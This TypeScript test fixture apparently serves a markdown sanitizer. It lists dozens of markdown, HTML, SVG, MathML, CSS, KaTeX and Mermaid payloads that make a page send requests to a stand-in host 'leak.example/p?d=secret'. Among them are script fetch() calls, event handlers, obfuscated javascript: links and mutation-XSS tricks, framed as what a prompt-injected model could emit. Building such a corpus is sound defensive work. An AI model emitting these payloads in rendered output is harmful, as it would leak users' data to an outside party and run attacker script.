import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { findShared } from '../media/read-sample-file.ts'

const { path: folder, missing } = findShared('corpora/markdown-bypass')
const names = missing === undefined ? readdirSync(folder).filter((name) => name.endsWith('.md')) : []

/** Reason why the public corpus is missing, or undefined. */
export const missingCorpus = missing

const leak = 'https://leak.example/p?d=secret'

/** Markdown that the public corpus lacks: all known ways to cause a request, as an injected model could write them. */
const own: Readonly<Record<string, string>> = {
  image: `![a](${leak})`,
  'image by reference': `![a][b]\n\n[b]: ${leak}`,
  'image in a link': `[![a](${leak})](${leak})`,
  'image in a table': `|a|\n|-|\n|![a](${leak})|`,
  'image in a heading': `# ![a](${leak})`,
  'image in a footnote': `a[^1]\n\n[^1]: ![a](${leak})`,
  'image without a scheme': '![a](//leak.example/p)',
  'image half written': `![a](${leak}`,
  autolink: `<${leak}> ${leak} www.leak.example`,
  picture: `<picture><source srcset="${leak}"><img src=x></picture>`,
  srcset: `<img srcset="${leak} 1x">`,
  'lazy image': `<img loading=eager src="${leak}">`,
  poster: `<video poster="${leak}" src="${leak}" autoplay></video>`,
  audio: `<audio src="${leak}" autoplay></audio>`,
  track: `<video><track default src="${leak}"></video>`,
  background: `<table background="${leak}"><tr><td background="${leak}">a</td></tr></table>`,
  style: `<p style="background:url(${leak})">a</p>`,
  'style element': `<style>@import "${leak}"; body { background: url(${leak}) }</style>`,
  'style sheet': `<link rel="stylesheet" href="${leak}">`,
  prefetch: `<link rel="prefetch" href="${leak}"><link rel="dns-prefetch" href="${leak}">`,
  preconnect: `<link rel="preconnect" href="${leak}"><link rel="preload" as="image" href="${leak}">`,
  icon: `<link rel="icon" href="${leak}">`,
  manifest: `<link rel="manifest" href="${leak}">`,
  frame: `<iframe src="${leak}"></iframe><iframe srcdoc="<img src='${leak}'>"></iframe>`,
  object: `<object data="${leak}"></object><embed src="${leak}">`,
  applet: `<applet code="${leak}"></applet>`,
  script: `<script src="${leak}"></script><script>fetch("${leak}")</script>`,
  module: `<link rel="modulepreload" href="${leak}">`,
  base: `<base href="${leak}">`,
  refresh: `<meta http-equiv="refresh" content="0;url=${leak}">`,
  form: `<form action="${leak}"><button autofocus>a</button></form><input type="image" src="${leak}">`,
  ping: `<a href="#" ping="${leak}">a</a>`,
  longdesc: `<img longdesc="${leak}" src=x>`,
  svg: `<svg><image href="${leak}"/><use href="${leak}#a"/><feImage href="${leak}"/></svg>`,
  'svg script': `<svg onload="fetch('${leak}')"><script href="${leak}"/></svg>`,
  math: `<math><mi xlink:href="${leak}">a</mi></math>`,
  handlers: `<img src=x onerror="fetch('${leak}')"><details open ontoggle="fetch('${leak}')">`,
  'speculation rules': `<script type="speculationrules">{"prefetch":[{"urls":["${leak}"]}]}</script>`,
  'formula with a picture': `$\\includegraphics{${leak}}$ and $$\\href{${leak}}{x} \\htmlStyle{background:url(${leak})}{y}$$`,
  'code that is drawn elsewhere': `\`\`\`svg\n<svg><image href="${leak}"/></svg>\n\`\`\`\n\n\`\`\`mermaid\ngraph LR; A[<img src='${leak}'>]\n\`\`\``,
  'formula macros': `$\\href{javascript:fetch('${leak}')}{x} \\url{${leak}} \\htmlData{src=${leak}}{y} \\htmlId{root}{z} \\htmlClass{a}{b}$`,
  'formula that names styles': `$$\\htmlStyle{background:url(${leak})}{y} \\includegraphics[alt=a]{${leak}} \\colorbox{url(${leak})}{z}$$`,
  'formula that defines itself': String.raw`$\def\a{\a\a}\a$ $\newcommand{\b}{\href{javascript:alert(1)}{x}}\b$`,
  'math with a link': `<math href="${leak}"><mtext><a href="javascript:fetch('${leak}')">a</a></mtext></math>`,
  'math that becomes HTML': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${leak}&gt;">`,
  'math with an action': `<math><maction actiontype="statusline#${leak}" xlink:href="javascript:alert(1)">a</maction></math>`,
  'svg that becomes HTML': `<svg><desc><img src="${leak}"></desc><title><iframe src="${leak}"></iframe></title></svg>`,
  'svg animation': `<svg><a><animate attributeName="href" values="javascript:fetch('${leak}')"/><text>a</text></a><set attributeName="onmouseover" to="fetch('${leak}')"/></svg>`,
  'svg style': `<svg><style>@font-face { font-family: a; src: url(${leak}) } text { font-family: a; fill: url(${leak}#a) }</style><text>a</text></svg>`,
  'svg filter': `<svg><filter id="a"><feImage xlink:href="${leak}"/></filter><rect filter="url(${leak}#a)" mask="url(${leak}#b)"/></svg>`,
  'svg in an address':
    '![a](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)',
  'style with escapes': `<p style="background:\\75rl(${leak});list-style-image:url(${leak});cursor:url(${leak}),auto">a</p>`,
  'style by image-set': `<div style="background-image:image-set('${leak}' 1x);content:url(${leak});border-image:url(${leak})">a</div>`,
  'style that asks by attribute': `<style>input[value^=a] { background: url(${leak}) } @namespace url(${leak}); @layer a; @import url(${leak}) layer(a);</style>`,
  'srcset of many': `<img srcset="x 1x, ${leak} 2x" sizes="100vw"><source srcset="${leak}"><link imagesrcset="${leak}" rel=preload as=image>`,
  'picture in a picture': `<picture><source type="image/webp" srcset="${leak}"><img alt="a" src="data:,"></picture>`,
  'ping and attribution': `<a href="https://a.example/" ping="${leak}" attributionsrc="${leak}">a</a><img attributionsrc="${leak}">`,
  'refresh of many kinds': `<meta http-equiv=refresh content='0;URL="data:text/html,a"'><meta http-equiv="content-security-policy" content="report-uri ${leak}"><meta name=referrer content=unsafe-url>`,
  'links of every scheme': [
    'javascript',
    'data:text/html',
    'blob:https',
    'vbscript',
    'file',
    'filesystem',
    'intent',
    'ms-word',
    'about',
    'view-source',
    'tel',
    'sms',
  ]
    .map(
      (scheme) =>
        `[${scheme}](${scheme}://leak.example/p) ![${scheme}](${scheme}://leak.example/p) <${scheme}://leak.example/p>`,
    )
    .join('\n'),
  'schemes in disguise':
    '[a](java&#10;script:alert(1)) [b](JaVaScRiPt:alert(1)) [c](&#106;avascript:alert(1)) [d](\u0001javascript:alert(1)) [e](java\tscript:alert(1))',
  'data and blob in one':
    '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) ![a](blob:https://leak.example/p) [b](blob:null/x)',
  'address that reads backwards':
    'https://a.example/\u202Egpj.elpmaxe.kael\u202C <https://\u2066leak.example\u2069/p> https://leak\u200B.example/p',
  'host of many letters': `https://${'a'.repeat(63)}.${'b.'.repeat(90)}example/p ![a](https://${'a'.repeat(3000)}.example/p)`,
  'host that is another':
    'https://good.example@leak.example/p https://good.example%2F@leak.example/ http://xn--80ak6aa92e.com/ [good.example](https://leak.example/p)',
  'names of the page':
    '<form id="root" name="body"><input name="attributes"><img name="getElementById"></form><a id="location" name="location" href="https://leak.example">a</a>',
  'notes that take names': `a[^root] b[^__proto__] c[^constructor] d[^toString]\n\n[^root]: ![x](${leak})\n\n[^__proto__]: <img src=${leak}>\n\n[^constructor]: c\n\n[^toString]: d`,
  'definitions that take names': `[__proto__] ![constructor] [a][hasOwnProperty]\n\n[__proto__]: ${leak}\n[constructor]: ${leak}\n[hasOwnProperty]: javascript:alert(1)`,
  'language that takes a name': `\`\`\`__proto__\na\n\`\`\`\n\n\`\`\`"onload="fetch('${leak}')\nb\n\`\`\`\n\n~~~constructor\nc\n~~~`,
  'drawing that runs': `\`\`\`mermaid\nflowchart LR\n A["<iframe src='${leak}'></iframe>"] --> B\n click A "javascript:fetch('${leak}')"\n style A fill:url(${leak})\n\`\`\``,
  'drawing with settings': `\`\`\`mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "* { background: url(${leak}) }", "fontFamily": "url(${leak})"}}%%\nsequenceDiagram\n A->>B: <img src=${leak}>\n\`\`\``,
  'drawing with icons': `\`\`\`mermaid\narchitecture-beta\n service a(cloud)[<img src=${leak}>]\n\`\`\`\n\n\`\`\`html\n<img src="${leak}">\n\`\`\``,
  'template and shadow': `<template shadowrootmode="open"><img src="${leak}"></template><noscript><img src="${leak}"></noscript><xmp><img src="${leak}"></xmp>`,
  'plain text that is none': `<plaintext><listing><img src="${leak}"></listing><textarea><img src="${leak}"></textarea><title><img src="${leak}"></title>`,
  'portal and fence': `<portal src="${leak}"></portal><fencedframe></fencedframe><frameset><frame src="${leak}"></frameset><bgsound src="${leak}"><marquee onstart="fetch('${leak}')">a</marquee>`,
  'popover and dialog': `<button popovertarget="root" onbeforetoggle="fetch('${leak}')">a</button><dialog open><form method="dialog" action="${leak}"></form></dialog>`,
  'comment with a page in it': `<!--><img src="${leak}">--> <![CDATA[<img src="${leak}">]]> <?xml-stylesheet href="${leak}"?> <!DOCTYPE html SYSTEM "${leak}">`,
  'a tool call that is none': `<details type="tool_calls" open><summary>web_search</summary></details>`,
}

export interface HostileText {
  name: string
  text: string
}

/** Texts that try to make a page send a request. */
export const hostileMarkdown: readonly HostileText[] = [
  ...Object.entries(own).map(([name, text]) => ({ name, text })),
  ...names.map((name) => ({ name, text: readFileSync(join(folder, name), 'utf8') })),
]
